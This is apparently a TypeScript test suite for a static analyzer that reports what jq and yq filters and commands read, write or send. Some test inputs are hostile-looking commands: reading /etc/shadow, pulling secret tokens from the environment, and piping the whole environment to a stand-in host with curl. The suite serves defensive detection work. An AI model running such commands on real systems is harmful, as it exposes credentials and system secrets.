import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { facts, lines } from '../../bash/harness.ts'
import { HOLE } from '../../resources/text/hole.ts'
import { record, summary } from '../harness.ts'

/** Filters that only work on their input. */
const PLAIN: readonly string[] = [
  '.',
  '',
  '.a.b[0]',
  '.[] | select(.name == "x") | .id',
  'map(.a + 1) | add',
  '.env',
  '.env.PATH',
  '.a.env',
  '.["env"]',
  '{env: .a}',
  '{env: .a, load: .b}',
  '{a, env}',
  '{env}',
  '"env"',
  '"$ENV.PATH"',
  '"a \\(.b) env"',
  '"\\(.a | "\\(.b)") env"',
  '# env\n.',
  '. # $ENV',
  '.environment',
  'environment',
  '$environment',
  '@base64',
  '@sh "rm \\(.x)"',
  'input_filename',
  'input, inputs',
  'to_entries[] | "\\(.key)=\\(.value)"',
  'def f(x): x; f(.)',
  'reduce .[] as $x (0; . + $x)',
  'if .a then .b else .c end',
  '.[] as {a: $x, b: [$y]} | $x + $y',
  'try error("x") catch .',
  'test("env")',
  'sub("(?<x>a)"; "\\(.x)b")',
  'limit(3; .[])',
  'debug',
  '$__loc__',
  '.a // "b"',
  '.["a", "b"]',
  '.[2:4]',
  '..|.a?',
  '.load',
  'eval("x")',
]

describe('filters that only work on their input', () => {
  for (const filter of PLAIN) test(JSON.stringify(filter), () => expect(summary('jq', filter)).toEqual([]))
})

const REACHING: readonly (readonly [string, readonly string[]])[] = [
  ['env', ['read env:list *']],
  ['$ENV', ['read env:list *']],
  ['env | keys', ['read env:list *']],
  ['env.SECRET', ['read env:get SECRET']],
  ['$ENV.SECRET', ['read env:get SECRET']],
  ['env["SECRET"]', ['read env:get SECRET']],
  ['$ENV["A"], $ENV.B', ['read env:get A', 'read env:get B']],
  ['.a + env.B', ['read env:get B']],
  ['{a: env.B}', ['read env:get B']],
  ['{a: env}', ['read env:list *']],
  ['"\\(env.B)"', ['read env:get B']],
  ['"a\\("b\\(env.C)")"', ['read env:get C']],
  ['[env]', ['read env:list *']],
  ['f(env)', ['read env:list *']],
  ['import "lib" as l; l::f', ['read code:module lib.jq']],
  ['include "x/y"; .', ['read code:module x/y.jq']],
  ['import "data" as $d; $d', ['read code:module data.json']],
  ['import "/etc/secret.json" as $d; .', ['read code:module /etc/secret.json']],
  ['env(HOME2)', ['read env:get HOME2']],
  ['strenv(TOKEN)', ['read env:get TOKEN']],
  ['.a = strenv(TOKEN)', ['read env:get TOKEN']],
  ['.a | envsubst', ['read env:list *']],
  ['load("a.yml")', ['read a.yml']],
  ['load_str("/etc/shadow")', ['read /etc/shadow']],
  ['. * load("b.yml")', ['read b.yml']],
  ['load(.path)', ['read *']],
  ['eval(.expr)', ['opaque the jq filter is not known before it runs']],
  [HOLE, ['opaque the jq filter is not known before it runs']],
  [`.a == "${HOLE}"`, []],
  ['"abc', ['opaque a string is not closed (jq)']],
]

describe('filters that reach further', () => {
  for (const [filter, expected] of REACHING) test(JSON.stringify(filter), () => expect(summary('jq', filter)).toEqual(expected))
})

const COMMANDS: readonly (readonly [string, readonly string[]])[] = [
  ['jq . f.json', ['read /repo/f.json']],
  ["jq -r '.a' f.json g.json", ['read /repo/f.json', 'read /repo/g.json']],
  ['jq -n env', ['read env:list *']],
  ["jq --arg n x '.[$n]' f", ['read /repo/f']],
  ["jq --slurpfile a /etc/shadow '.' f", ['read /etc/shadow', 'read /repo/f']],
  ["jq --rawfile a b.txt '$a' f", ['read /repo/b.txt', 'read /repo/f']],
  ["jq -n --args '$ARGS' a b", []],
  ['jq -f filter.jq f', ['likely execute script:unseen /repo/filter.jq', 'read /repo/f']],
  ['jq ".a == \\"$X\\"" f', ['opaque part of the jq program is not known before it runs', 'read /repo/f']],
  ['jq "$F" f', ['opaque the jq filter is not known before it runs', 'read /repo/f']],
  ['F=.a; jq "$F" f', ['read /repo/f']],
  ['jq --version', []],
  ["yq '.a' f.yml", ['read /repo/f.yml']],
  ["yq -i '.a = 1' f.yml", ['read /repo/f.yml', 'write text:edit /repo/f.yml']],
  ['yq e \'.a = load("b.yml")\' f.yml', ['read /repo/b.yml', 'read /repo/f.yml']],
]

describe('jq and yq commands', () => {
  for (const [command, expected] of COMMANDS) test(command, () => expect(lines(command)).toEqual(expected))

  test('a filter file is read through the View, and what it imports is said', () => {
    const files = { '/repo/f.jq': 'import "m" as m; env.TOKEN' }
    expect(lines('jq -f f.jq x', { files })).toEqual(expect.arrayContaining(['likely read code:module /repo/m.jq', 'read env:get TOKEN']))
  })

  test('the environment that a filter reads goes along with what is sent', () => {
    const sent = facts('jq -n env | curl -d @- https://x.example').effects.find((found) => found.verb === 'send')
    expect(sent?.attributes.carries).toBe('environment')
  })
})

test('any text is read or refused, never more', () => {
  const texts = fc.string({ unit: fc.constantFrom(...'"\\(){}[].|,:$#\n', 'env', 'load', 'import ', HOLE), maxLength: 30 })
  fc.assert(
    fc.property(texts, (filter) => {
      for (const found of record('jq', filter).effects) expect(['read', 'opaque']).toContain(found.verb)
    }),
  )
})

test('hostile filters stay within bounds', () => {
  for (const filter of ['('.repeat(60_000), '"\\('.repeat(20_000), '.a'.repeat(30_000), '$ENV'.repeat(10_000), '#'.repeat(60_000)])
    expect(record('jq', filter).effects.length).toBeLessThan(20_000)
})
